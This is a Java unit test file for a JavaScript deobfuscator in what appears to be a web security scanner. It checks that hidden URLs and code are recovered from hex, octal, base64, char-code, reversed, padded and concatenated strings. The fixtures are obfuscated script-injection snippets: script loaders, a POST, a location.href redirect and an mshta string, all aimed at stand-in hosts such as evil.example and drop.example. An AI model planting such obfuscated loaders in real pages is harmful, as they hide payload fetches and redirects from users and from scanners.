package jp.mamori.checks.web;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Base64;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;

class ScriptDecoderTest {
  static String b64(String s) {
    return Base64.getEncoder().encodeToString(s.getBytes());
  }

  @Test
  void literalsResolveEscapes() {
    assertThat(ScriptDecoder.literals("a='\\x68\\x69';b=\"\\u0041\\u{1F600}\";c=`t`;"))
        .extracting(ScriptDecoder.Literal::value).containsExactly("hi", "A\uD83D\uDE00", "t");
    // a quote in a comment or regular expression does not swallow the rest of the script
    assertThat(ScriptDecoder.literals("/* don't */ x='https://a.example/'")).extracting(ScriptDecoder.Literal::value)
        .contains("https://a.example/");
  }

  @Test
  void doubleEscapesArrayJoinsWithASeparatorAndLiteralTemplateHoles() {
    assertThat(ScriptDecoder.decode("u=JSON.parse('\"\\\\u0068\\\\u0074tps://twice.example/s\"')").encoded())
        .contains("https://twice.example/s");
    assertThat(ScriptDecoder.decode("var h=['example','drop'].reverse().join('.');u='https://'+h+'/o';").joined())
        .contains("https://drop.example/o");
    assertThat(ScriptDecoder.decode("var h=`${'dr'}${'op'}.${'example'}`;u=`https://${h}/b`;").joined())
        .contains("https://drop.example/b");
    // an ordinary escaped backslash is no second layer
    assertThat(ScriptDecoder.escapedAgain("C:\\temp\\new")).isNull();
  }

  @Test
  void joinedAndEncodedPieces() {
    ScriptDecoder.Decoded concat = ScriptDecoder.decode("s.src='https://'+'evil'+'.example/x.js';");
    assertThat(concat.joined()).contains("https://evil.example/x.js");
    assertThat(concat.encoded()).isEmpty();
    assertThat(ScriptDecoder.decode("var p=['ht','tps:','//','drop','.example'];u=p.join('');").joined())
        .contains("https://drop.example");
    assertThat(ScriptDecoder.decode("u=\"\\x68\\x74\\x74\\x70\\x73\\x3a\\x2f\\x2fx.example\"").encoded())
        .contains("https://x.example");
    assertThat(ScriptDecoder.decode("u=atob('" + b64("https://b64.example/p") + "')").encoded())
        .contains("https://b64.example/p");
    assertThat(ScriptDecoder.decode("eval(unescape('%76%61%72%20%61%3d%31'))").encoded()).contains("var a=1");
    assertThat(ScriptDecoder.decode("eval(String.fromCharCode.apply(null,[104,116,116,112,115,58,47,47,99,46,101,120]))")
        .encoded()).contains("https://c.ex");
    // ordinary code hides nothing
    assertThat(ScriptDecoder.decode("var a = 'hello'; var b = [1, 2, 3]; f(a, b);").all()).isEmpty();
    assertThat(ScriptDecoder.decode("x=['Webkit','Moz','ms'];").all()).isEmpty();
  }

  @Test
  void stringConstantsTemplatesReversalAndShortCharCodes() {
    // a host kept in a constant and put into a template literal or a concatenation
    assertThat(ScriptDecoder.decode("const h='drop.example';x.open('POST',`https://${h}/api`,true);").joined())
        .contains("https://drop.example/api");
    assertThat(ScriptDecoder.decode("var h=\"drop.example\";u='https://'+h+'/g.gif';").joined())
        .contains("https://drop.example/g.gif");
    // written backwards, as a literal or through a variable
    assertThat(ScriptDecoder.decode("var r='moc.elpmaxe.pord//:sptth'.split('').reverse().join('');").encoded())
        .contains("https://drop.example.com");
    assertThat(ScriptDecoder.decode("var _r=\";)1(trela\";eval(_r.split(\"\").reverse().join(\"\"));").encoded())
        .contains("alert(1);");
    // a base64 payload split in two halves of an array
    String b = b64("https://split.example/p.gif");
    assertThat(ScriptDecoder.decode("var p=['" + b.substring(0, 12) + "','" + b.substring(12) + "'];atob(p.join(''));")
        .encoded()).contains("https://split.example/p.gif");
    assertThat(ScriptDecoder.decode("c=String.fromCharCode(109,115,104,116,97)+' https://x.example/';").encoded())
        .contains("mshta");
    // ordinary constants build nothing hidden
    assertThat(ScriptDecoder.decode("var a='x';var b=a+1;f(`n=${n}`);").all()).isEmpty();
  }

  @Test
  void octalEscapesJunkPaddingAndCodeInStrings() {
    assertThat(ScriptDecoder.decode("s.src='\\150\\164\\164\\160\\72\\57\\57\\157\\56\\145\\170';").encoded())
        .contains("http://o.ex");
    assertThat(ScriptDecoder.decode("s.src='h#t#t#p#s#:#/#/#j#u#n#k#.#e#x'.replace(/#/g,'');").encoded())
        .contains("https://junk.ex");
    assertThat(ScriptDecoder.decode("u='h@t@t@p@:@/@/@s@p@l@i@t@.@e@x'.split('@').join('');").encoded())
        .contains("http://split.ex");
    assertThat(ScriptDecoder.decode("(()=>{}).constructor(\"var s=document.createElement(\\\"script\\\");\")();")
        .joined()).contains("createElement(\"script\")");
    // a replace that does real work, or one with a pattern too clever to run, is left alone
    assertThat(ScriptDecoder.decode("t=s.replace(/a/g,'b');x='a-b'.replace(/(a+)+$/g,'')").encoded()).isEmpty();
  }

  @Test
  void normalisedViewFoldsStringsAndPropertyNames() {
    assertThat(ScriptDecoder.decode("self['loc'+'ation']['hr'+'ef']='https://'+'evil'+'.example/';").normalised())
        .contains("self.location.href='https://evil.example/'");
    assertThat(ScriptDecoder.decode("var k='at'+'ob';g[k](p);e['push'](e['shift']());").normalised())
        .contains("g.atob(p)").contains("e.push(e.shift())");
    // arrays and calls keep their brackets; nothing to fold leaves no normalised view
    assertThat(ScriptDecoder.decode("x=['a'];f(['b']);").normalised()).isEmpty();
    String big = "var pad='" + "p".repeat(20_000) + "';" + "w['loc'+'ation']='https://far.example/';";
    String n = ScriptDecoder.decode(big).normalised();
    assertThat(n).contains("w.location='https://far.example/'").hasSizeLessThan(2_000);
  }

  @Test
  @Timeout(30)
  void hostileScriptsStayBounded() {
    String many = "'" + "a".repeat(100_000) + "x='\\x41" .repeat(20_000) + "fromCharCode(1,".repeat(50_000);
    assertThat(ScriptDecoder.decode(many).all().length()).isLessThanOrEqualTo(2 * ScriptDecoder.MAX_OUT);
    assertThat(ScriptDecoder.literals("'\"".repeat(200_000))).hasSizeLessThanOrEqualTo(ScriptDecoder.MAX_LITERALS);
    assertThat(ScriptDecoder.decode("[" + "1,".repeat(300_000) + "]; fromCharCode").all()).isNotNull();
    assertThat(ScriptDecoder.decode("var a='x';" + "a+'y'+".repeat(50_000) + "a").normalised().length())
        .isLessThanOrEqualTo(2 * ScriptScanner.MAX_SCAN + 1024);
    assertThat(ScriptDecoder.decode("f(" + "fromCharCode(1,2,".repeat(50_000)).encoded().length())
        .isLessThanOrEqualTo(ScriptDecoder.MAX_OUT);
  }
}
